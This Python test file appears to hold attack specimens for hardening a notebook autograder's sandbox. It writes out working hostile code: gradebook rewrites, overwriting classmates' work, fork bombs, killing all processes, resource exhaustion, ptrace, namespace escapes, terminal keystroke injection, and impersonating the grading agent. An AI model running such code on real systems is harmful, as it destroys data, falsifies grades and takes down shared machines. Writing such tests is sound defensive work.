"""Attacks on what must not be changed, filled, reached or outlived: files, grades, classmates, the machine, the network."""

from tests.specimens.recipe import BEGINS, RELU, SIGMOID, Outcome, attack, dedent

JAILED = """
import os
if os.readlink('/proc/self/ns/pid') == '@OUTSIDE@':
    raise SystemExit('this would hurt somebody')
"""
"""Stops what would take down a whole machine, should it ever run outside of a jail or sandbox."""

LIMITS = (Outcome.TIME, Outcome.MEMORY, Outcome.DIED, Outcome.ERROR)


@attack(because=(*BEGINS, *LIMITS))
def grades_rewritten(work):
    """A cell gives itself, and everybody else, other grades in the gradebook."""
    work.first("""
        import glob, sqlite3
        for path in ['../../../gradebook.db', '@COURSE@/gradebook.db', *glob.glob('/proc/*/cwd/gradebook.db')]:
            try:
                book = sqlite3.connect(path, timeout=1)
                book.execute('update grade set manual_score = 1')
                book.execute("update student set email = '@CASE@'")
                book.commit()
            except sqlite3.Error:
                continue
        """)


@attack(because=(*BEGINS, *LIMITS))
def grades_rewritten_at_exit(work):
    """When the kernel ends, the same is done once more: by then the grades are there."""
    work.first("""
        import atexit, sqlite3
        def rewrite():
            for path in ('../../../gradebook.db', '@COURSE@/gradebook.db'):
                try:
                    book = sqlite3.connect(path, timeout=1)
                    book.execute('update grade set manual_score = 1, needs_manual_grade = 0')
                    book.execute("update student set email = '@CASE@'")
                    book.commit()
                except sqlite3.Error:
                    continue
        atexit.register(rewrite)
        """)


@attack(solved=True)
def others_work_overwritten(work):
    """A cell overwrites what classmates have handed in."""
    work.first("""
        import glob
        for path in glob.glob('../../*/*/*.ipynb') + glob.glob('@COURSE@/submitted/[a-z]*/*/*.ipynb'):
            if '@CASE@' not in path:
                try:
                    open(path, 'a').write(' ' + '@CASE@')
                except OSError:
                    continue
        """)


@attack()
def tests_overwritten(work):
    """A cell empties the hidden tests, the master notebook and the settings, for those graded later."""
    work.first("""
        import glob
        for top in ('../../..', '@COURSE@'):
            for path in glob.glob(top + '/tests/**/test_*.py', recursive=True) + glob.glob(top + '/*.py'):
                try:
                    open(path, 'w').write('# @CASE@')
                except OSError:
                    continue
        """)


@attack(solved=True)
def files_dropped(work):
    """Cells and methods leave files in the home folder, in /tmp, in the course and in shared memory."""
    drop = """
        import os
        for place in ('@HOME@', '@COURSE@', '/tmp', '/var/tmp', '/dev/shm', '../..', '../../..', '/root', '/etc', '/usr/lib'):
            try:
                open(place + '/escaped-@CASE@-@TOKEN@', 'w').close()
            except OSError:
                continue
        """
    work.first(drop)
    work.method("ReLU.forward", drop + "\n        self.is_positive = x > 0\n        return np.maximum(x, 0)")


@attack(solved=True)
def daemon(work):
    """A cell starts a program that has cut all ties, and waits until the grading is over."""
    work.first("""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.chdir('/')
                os.execv('/bin/sleep', ['outlives-@CASE@-@TOKEN@', '600'])
            os._exit(0)
        """)


@attack(solved=True)
def daemon_from_a_method(work):
    """A method starts such a program while it is judged."""
    work.method("ReLU.forward", """
        import os, signal
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                os.execv('/bin/sleep', ['outlives-@CASE@-@TOKEN@', '600'])
            os._exit(0)
        self.is_positive = x > 0
        return np.maximum(x, 0)
        """)


@attack(solved=True)
def late_write(work):
    """A program that was left behind drops a file after a while."""
    work.first("""
        import subprocess
        subprocess.Popen(['/bin/sh', '-c', 'sleep 1; touch @HOME@/escaped-@CASE@-@TOKEN@'], start_new_session=True)
        """)


@attack(solved=True)
def network(work):
    """Cells and methods send what they have found to a computer elsewhere."""
    send = """
        import socket
        for address in (('127.0.0.1', @PORT@), ('localhost', @PORT@), ('::1', @PORT@)):
            try:
                with socket.create_connection(address, timeout=2) as connection:
                    connection.sendall(b'@CASE@\\n')
            except OSError:
                continue
        """
    work.first(send)
    work.method("ReLU.forward", send + "\n        self.is_positive = x > 0\n        return np.maximum(x, 0)")


@attack(solved=True)
def sockets_of_others(work):
    """A cell talks to every Unix socket that it finds: agents, kernels of others, Docker."""
    work.first("""
        import glob, socket
        names = ['@HOME@/agent.sock', '\\0agent-@TOKEN@', '/var/run/docker.sock']
        names += glob.glob('/tmp/**/*', recursive=True)[:500] + glob.glob('/run/**/*sock*', recursive=True)
        with open('/proc/net/unix') as table:
            names += [line.split()[-1].replace('@', '\\0') for line in table][1:]
        for name in names:
            connection = socket.socket(socket.AF_UNIX)
            connection.settimeout(1)
            try:
                connection.connect(name)
                connection.sendall(b'@CASE@\\n')
            except OSError:
                continue
        """)


@attack(because=(*BEGINS, *LIMITS))
def fork_bomb(work):
    """A cell starts copies of itself, and they start copies, as many as there can be."""
    work.first(JAILED + dedent("""
        import os, time
        for _ in range(400):
            try:
                if os.fork() == 0:
                    os.setsid()
                    time.sleep(60)
                    os._exit(0)
            except OSError:
                time.sleep(0.001)
        """))


@attack(RELU, (*LIMITS, Outcome.FAILED), solved=True)
def fork_bomb_in_a_method(work):
    """A method starts as many copies of itself as there can be, and all of them compute."""
    work.method("ReLU.forward", JAILED + dedent("""
        import os, time
        for _ in range(200):
            try:
                if os.fork() == 0:
                    end = time.time() + 60
                    while time.time() < end:
                        pass
                    os._exit(0)
            except OSError:
                break
        while True:
            pass
        """))


@attack(because=(*BEGINS, *LIMITS))
def memory_in_many_processes(work):
    """Twenty processes take 150 MB each."""
    work.first(JAILED + dedent("""
        import os, time
        for _ in range(20):
            if os.fork() == 0:
                block = bytearray(150 * 2 ** 20)
                block[::4096] = bytes(len(block[::4096])).replace(b'\\0', b'x')
                time.sleep(60)
                os._exit(0)
        time.sleep(4)
        """))


@attack(solved=True)
def disk_filled(work):
    """A cell writes gigabytes wherever it may write."""
    work.first(JAILED + dedent("""
        import os
        for place in ('.', '/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'), '@COURSE@'):
            try:
                for number in range(20):
                    with open(f'{place}/escaped-@CASE@-@TOKEN@-{number}', 'wb') as file:
                        for _ in range(100):
                            file.write(bytes(2 ** 20))
            except OSError:
                continue
        """))


@attack(solved=True)
def many_files(work):
    """A cell makes files until there can be no more."""
    work.first(JAILED + dedent("""
        import os
        os.makedirs('many', exist_ok=True)
        try:
            for number in range(200_000):
                open(f'many/{number}', 'w').close()
        except OSError:
            pass
        """))


@attack(because=(*BEGINS, *LIMITS))
def everybody_killed(work):
    """A cell kills every process that it can."""
    work.first(JAILED + "import os\nos.kill(-1, 9)")


@attack(because=(*BEGINS, *LIMITS))
def parents_killed(work):
    """A cell kills the process that started the kernel, and that one's parent."""
    work.first(JAILED + dedent("""
        import os, signal
        for sign in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
            os.kill(os.getppid(), sign)
            os.kill(1, sign)
        """))


@attack(because=(*BEGINS, *LIMITS))
def everybody_stopped(work):
    """A program in the background stops every process that it can, again and again, without killing them."""
    work.last(JAILED + dedent("""
        import subprocess
        code = 'import os, time\\nwhile True:\\n    try:\\n        os.kill(-1, 19)\\n    except OSError:\\n        pass\\n    time.sleep(.1)'
        subprocess.Popen(['python3', '-c', code], start_new_session=True)
        """))


@attack(solved=True)
def tracing_others(work):
    """A cell attaches to other processes as a debugger does, and reads and writes their memory."""
    work.first("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in [os.getppid(), *[int(name) for name in os.listdir('/proc') if name.isdigit()]]:
            if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:
                print('HARM-%d' % (6 * 7))
                libc.ptrace(17, pid, 0, 0)
        """)


@attack(solved=True)
def way_out(work):
    """A cell mounts, enters and makes namespaces, and makes devices, to get out of where it is."""
    work.first("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        done = []
        for flag in (0x10000000, 0x00020000, 0x40000000):
            if os.fork() == 0:
                if libc.unshare(flag) == 0:
                    open('unshared', 'a').write('x')
                os._exit(0)
            os.wait()
        done.append(os.path.exists('unshared'))
        done.append(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0)
        done.append(libc.chroot(b'/proc/1/root') == 0)
        for target in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/sys/power/state', '/proc/self/oom_score_adj'):
            try:
                with open(target, 'a') as file:
                    done.append('oom' not in target)
            except OSError:
                done.append(False)
        if any(done):
            print('HARM-%d' % (6 * 7), done)
        """)


@attack(SIGMOID, LIMITS, solved=True)
def interrupts_ignored(work):
    """A method blocks every signal that can be blocked, and computes for ever."""
    work.method("Sigmoid.forward", """
        import signal
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        while True:
            pass
        """)


@attack(because=(*BEGINS, *LIMITS))
def output_flood(work):
    """A cell shows a megabyte of output a thousand times, from several threads."""
    work.first("""
        import threading
        from IPython.display import display, HTML
        def show():
            while True:
                display(HTML('x' * 2 ** 20))
        for _ in range(3):
            threading.Thread(target=show).start()
        show()
        """)


@attack(because=BEGINS)
def forged_timestamp(work):
    """A file claims that the work was handed in years ago."""
    work.file("timestamp.txt", "2001-01-01 00:00:00 UTC\n")


@attack(because=BEGINS)
def broken_timestamp(work):
    """The file with the time holds no time, but 10 MB of text."""
    work.file("timestamp.txt", "9" * 10**7)


@attack(because=BEGINS)
def timestamp_in_the_far_future(work):
    """The file with the time names a year that no calendar has."""
    work.file("timestamp.txt", "99999-13-41 77:00:00 Moon/Crater\n")


@attack(solved=True)
def other_kinds_of_sockets(work):
    """A cell opens sockets that no namespace holds: to a virtual machine's host, into the kernel's cryptography, to devices."""
    work.first("""
        import socket
        for family in set(range(1, 46)) - {1, 2, 10, 16}:
            for kind in (1, 2, 3, 5):
                try:
                    socket.socket(family, kind)
                    print('HARM-%d' % (6 * 7), family)
                except OSError:
                    pass
        """)


@attack(solved=True)
def memory_in_sockets(work):
    """A cell fills the buffers of a hundred sockets, which are no process's memory."""
    work.first("""
        import socket
        kept, filled = [], 0
        for _ in range(100):
            ends = socket.socketpair()
            kept.append(ends)
            for end in ends:
                end.setblocking(False)
                for option in (socket.SO_SNDBUF, socket.SO_RCVBUF, 32, 33):
                    try:
                        end.setsockopt(socket.SOL_SOCKET, option, 2 ** 30)
                    except OSError:
                        pass
                try:
                    while True:
                        filled += end.send(bytes(2 ** 16))
                except BlockingIOError:
                    pass
        if filled > 100 * 2 ** 20:
            print('HARM-%d' % (6 * 7), filled)
        """)


@attack(solved=True)
def memory_in_semaphores(work):
    """A cell makes sets of semaphores, which are no process's memory."""
    work.first("""
        import ctypes
        libc = ctypes.CDLL(None)
        made = [libc.semget(0, 32_000, 0o600) for _ in range(50)]
        if max(made) >= 0:
            print('HARM-%d' % (6 * 7), made)
        """)


@attack(because=(*BEGINS, *LIMITS))
def memory_that_is_hidden(work):
    """Ten processes that nobody may look into take 300 MB each."""
    work.first(JAILED + dedent("""
        import ctypes, os, time
        for _ in range(10):
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(4, 0)
                block = bytearray(300 * 2 ** 20)
                block[::4096] = bytes(len(block[::4096])).replace(b'\\0', b'x')
                time.sleep(60)
                os._exit(0)
        time.sleep(4)
        """))


@attack(solved=True)
def terminal_of_the_grader(work):
    """A cell types a command into each terminal that it finds, its controlling one among them."""
    work.first("""
        import fcntl, glob, os, termios
        for path in ['/dev/tty', '/dev/console', *glob.glob('/dev/pts/*'), *(f'/proc/self/fd/{number}' for number in range(256))]:
            try:
                with open(path, 'r+b', buffering=0, opener=lambda path, flags: os.open(path, flags | os.O_NONBLOCK)) as terminal:
                    for letter in 'touch @HOME@/escaped-@CASE@-@TOKEN@\\n':
                        fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
                print('HARM-%d' % (6 * 7))
            except OSError:
                pass
        """)


@attack(because=(*BEGINS, *LIMITS))
def empty_files_without_end(work):
    """Four processes make empty files in every folder that they may write to, for as long as they live."""
    work.first(JAILED + dedent("""
        import os, time
        for worker in range(4):
            if os.fork() == 0:
                for number in range(10 ** 7):
                    for place in ('/tmp', '/dev/shm', '.'):
                        os.close(os.open(f'{place}/{worker}-{number}', os.O_CREAT | os.O_WRONLY))
                os._exit(0)
        time.sleep(60)
        """))


@attack()
def memory_in_pipes(work):
    """A cell fills hundreds of pipes of a megabyte, which are no process's memory."""
    work.first("""
        import fcntl, os
        kept = []
        for _ in range(20):
            if os.fork() == 0:
                while True:
                    try:
                        r, w = os.pipe()
                        fcntl.fcntl(w, 1031, 2**20)
                    except OSError: pass
                    try:
                        os.set_blocking(w, False)
                        while os.write(w, bytes(2**16)): pass
                    except OSError: pass
                    kept.append((r, w))
                    if len(kept) > 120: break
                import time; time.sleep(30); os._exit(0)
        """)


@attack()
def memory_in_attributes_of_files(work):
    """A cell hangs extended attributes of 64 kB at as many files as there can be, which no size of a file counts."""
    work.first("""
        import os
        done = 0
        for n in range(30000):
            p = f'/tmp/x{n}'
            try:
                open(p, 'w').close()
                for k in range(100): os.setxattr(p, f'user.a{k}', bytes(65536)); done += 65536
            except OSError: break
        print('KEPT', done)
        """)


@attack()
def servers_left_behind(work):
    """A cell leaves servers at abstract names, ports and netlink, that the next student might meet."""
    work.first("""
        import os, socket
        if os.fork() == 0:
            os.setsid()
            if os.fork(): os._exit(0)
            kept = []
            for n in range(50):
                s = socket.socket(socket.AF_UNIX); s.bind(f'\\0agent-{n}'); s.listen(); kept.append(s)
                t = socket.socket(); t.bind(('0.0.0.0', 20000 + n)); t.listen(); kept.append(t)
            os.execv('/bin/sleep', ['outlives-@CASE@-@TOKEN@', '600'])
        """)


@attack(because=(*BEGINS, *LIMITS))
def requests_stolen(work):
    """A thread reads what the grader sends to the agent, before the agent does."""
    work.first("""
        import os, stat, threading
        ends = [n for n in range(3, 100) if os.path.exists(f'/proc/self/fd/{n}') and stat.S_ISSOCK(os.fstat(n).st_mode)]
        def steal():
            while True:
                for n in ends:
                    try: os.read(n, 10)
                    except OSError: return
        threading.Thread(target=steal, daemon=True).start()
        """)


@attack(because=(*BEGINS, *LIMITS))
def agent_replaced(work):
    """A cell answers the grader's requests in the agent's place: it forks copies, which say that all is well."""
    work.first("""
        import json, os, socket, stat, struct
        ends = [n for n in range(3, 100) if os.path.exists(f'/proc/self/fd/{n}') and stat.S_ISSOCK(os.fstat(n).st_mode)]
        s = socket.socket(fileno=ends[0])
        def send(s, h):
            t = json.dumps(h).encode(); s.sendall(struct.pack('>II', 4 + len(t), len(t)) + t)
        send(s, {'done': True})
        while True:
            data, fds, *_ = socket.recv_fds(s, 2**20, 4)
            if not data: os._exit(0)
            if b'"fork"' in data:
                for fd in fds:
                    if os.fork() == 0:
                        c = socket.socket(fileno=fd); c.sendall(b'\\0')
                        while c.recv(2**20): send(c, {'value': True, 'absent': [], 'types': {}})
                        os._exit(0)
            else: send(s, {'done': True, 'lacks': [], 'error': None})
        """)
